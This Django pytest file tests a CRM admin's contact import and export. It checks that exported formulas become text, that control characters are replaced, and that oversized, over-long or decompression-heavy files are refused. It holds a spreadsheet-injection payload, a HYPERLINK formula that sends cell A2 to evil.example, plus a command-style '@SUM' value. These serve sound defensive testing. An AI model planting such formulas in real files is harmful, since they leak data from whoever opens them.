"""The admin's import takes what the import page would read at once, and no more: bigger files
are refused with a pointer to the import page, before their rows are read. Its CSV/XLSX export
neutralises formulas and survives characters a spreadsheet cannot hold."""

import io
import re
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from contacts.models import Contact

from .factories import ContactEmailFactory, ContactFactory
from .test_admin import NamedFile, make_staff

pytestmark = pytest.mark.django_db
IMPORT = reverse("admin:contacts_contact_import")
EXPORT = reverse("admin:contacts_contact_export")
POINTER = f'Use the <a href="{reverse("transfer:import_start")}">import page</a>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")'


@pytest.fixture
def staff(db):
    return make_staff("staffer")


@pytest.fixture
def staff_client(client, staff):
    client.force_login(staff)
    return client


def admin_upload(client, raw: bytes, name: str = "contacts.csv"):
    file_format = 1 if name.endswith(".xlsx") else 0
    return client.post(IMPORT, {"import_file": io.BytesIO(raw) | NamedFile(name), "format": file_format, "resource": 0})


def errors_of(response) -> str:
    return " ".join(str(error) for error in response.context["form"].errors.get("import_file", []))


def workbook_bytes(rows: list[list], *, dimension: str | None = None) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    if dimension is None:
        return buffer.getvalue()
    # Rewrite the sheet's own claim of its size, as a hand-made or hostile file may have it.
    source, out = zipfile.ZipFile(io.BytesIO(buffer.getvalue())), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member.filename)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*" ?/>', f'<dimension ref="{dimension}" />'.encode(), data)
            target.writestr(member, data)
    return out.getvalue()


def export(client, file_format: int, *field_names):
    chosen = {f"contactresource_{name}": "on" for name in field_names}
    response = client.post(EXPORT, {"format": file_format, "resource": 0, **chosen})
    assert response.status_code == 200
    return response


class TestExportEscapes:
    def test_a_formula_in_a_name_is_neutralised_in_the_csv_export(self, staff_client, staff):
        contact = ContactFactory(owner=staff, first_name=FORMULA, last_name="@SUM(1+1)*cmd", company="")
        ContactEmailFactory(contact=contact, address="eve@example.org")
        text = export(staff_client, 0, "first_name", "last_name", "company", "emails").content.decode()
        assert f"'{FORMULA}".replace('"', '""') in text  # a leading ' makes it text in every spreadsheet
        assert "'@SUM(1+1)*cmd" in text
        assert "eve@example.org" in text and "None" not in text  # empty cells stay empty

    def test_a_formula_in_a_name_is_text_in_the_xlsx_export(self, staff_client, staff):
        ContactFactory(owner=staff, first_name=FORMULA, last_name="Plain")
        content = export(staff_client, 1, "first_name", "last_name").content
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        cell = sheet.cell(row=2, column=1)
        assert cell.data_type == "s" and cell.value == f"'{FORMULA}"  # a string, never a formula
        assert sheet.cell(row=2, column=2).value == "Plain"

    def test_a_control_character_in_the_notes_does_not_break_the_xlsx_export(self, staff_client, staff):
        ContactFactory(owner=staff, first_name="Bell", notes="ring\x07 the bell\x1b[0m")
        content = export(staff_client, 1, "first_name", "notes").content
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        assert sheet.cell(row=2, column=1).value == "Bell"
        assert sheet.cell(row=2, column=2).value == "ring\ufffd the bell\ufffd[0m"


class TestImportLimits:
    def test_a_file_over_the_background_size_points_to_the_import_page_and_writes_nothing(self, staff_client):
        raw = ("first_name,notes\n" + "".join(f"Person{i},{'x' * 200}\n" for i in range(1400))).encode()
        assert len(raw) > 256 * 1024
        response = admin_upload(staff_client, raw)
        assert response.status_code == 200
        assert "the admin reads files up to 256 KB" in errors_of(response)
        assert POINTER in response.content.decode()  # a working link, not escaped text
        assert "confirm_form" not in response.context and not Contact.objects.exists()

    def test_a_file_over_the_import_limit_is_refused_with_the_limit(self, staff_client, settings):
        settings.NETCRM_IMPORT_MAX_BYTES = 4 * 1024
        raw = ("first_name\n" + "".join(f"Person{i}\n" for i in range(800))).encode()
        response = admin_upload(staff_client, raw)
        assert "the limit is 0.0 MB. Split it first." in errors_of(response)
        assert not Contact.objects.exists()

    @pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])  # old Excel for Mac writes CR only
    def test_a_csv_of_as_many_rows_as_go_to_the_background_is_refused_whatever_its_line_ends(
        self, staff_client, newline
    ):
        raw = ("first_name,emails" + newline + "".join(f"P{i},p{i}@e.org{newline}" for i in range(2000))).encode()
        assert len(raw) < 256 * 1024
        response = admin_upload(staff_client, raw)
        assert "The file has 2,000 rows or more; the admin reads fewer than 2,000 at a time." in errors_of(response)
        assert POINTER in response.content.decode()
        assert not Contact.objects.exists()

    def test_a_workbook_whose_sheet_has_too_many_rows_is_refused_before_its_rows_are_read(
        self, staff_client, monkeypatch
    ):
        raw = workbook_bytes([["first_name"], *([f"P{i}"] for i in range(2100))])
        from openpyxl.worksheet._read_only import ReadOnlyWorksheet

        def never(*args, **kwargs):
            raise AssertionError("rows were read")

        monkeypatch.setattr(ReadOnlyWorksheet, "_cells_by_row", never)
        response = admin_upload(staff_client, raw, "contacts.xlsx")
        assert "The file has 2,100 rows or more" in errors_of(response)
        assert not Contact.objects.exists()

    def test_a_workbook_that_understates_its_rows_is_still_stopped_at_the_limit(self, staff_client):
        raw = workbook_bytes([["first_name"], *([f"P{i}"] for i in range(2100))], dimension="A1:A2")
        response = admin_upload(staff_client, raw, "contacts.xlsx")
        assert "The file has 2,000 rows or more" in errors_of(response)
        assert not Contact.objects.exists()

    def test_a_small_workbook_that_unpacks_past_the_limit_is_refused(self, staff_client, settings):
        settings.NETCRM_IMPORT_MAX_BYTES = 200 * 1024
        raw = workbook_bytes([["first_name", "notes"], *(["Zip", "a" * 32_000] for _ in range(10))])
        assert len(raw) < 20 * 1024
        response = admin_upload(staff_client, raw, "contacts.xlsx")
        assert "The workbook unpacks to" in errors_of(response)
        assert not Contact.objects.exists()

    def test_a_file_that_is_not_a_workbook_is_named_as_such(self, staff_client):
        response = admin_upload(staff_client, b"first_name\nAda\n", "contacts.xlsx")
        assert "This is not an XLSX workbook." in errors_of(response)

    def test_a_windows_1252_csv_imports_like_on_the_import_page(self, staff_client, staff):
        raw = "first_name;last_name;emails\r\nZoë;Brontë;zoe@example.org\r\n".encode("cp1252")
        preview = admin_upload(staff_client, raw)
        staff_client.post(reverse("admin:contacts_contact_process_import"), preview.context["confirm_form"].initial)
        zoe = Contact.objects.get(owner=staff)
        assert (zoe.first_name, zoe.last_name) == ("Zoë", "Brontë")
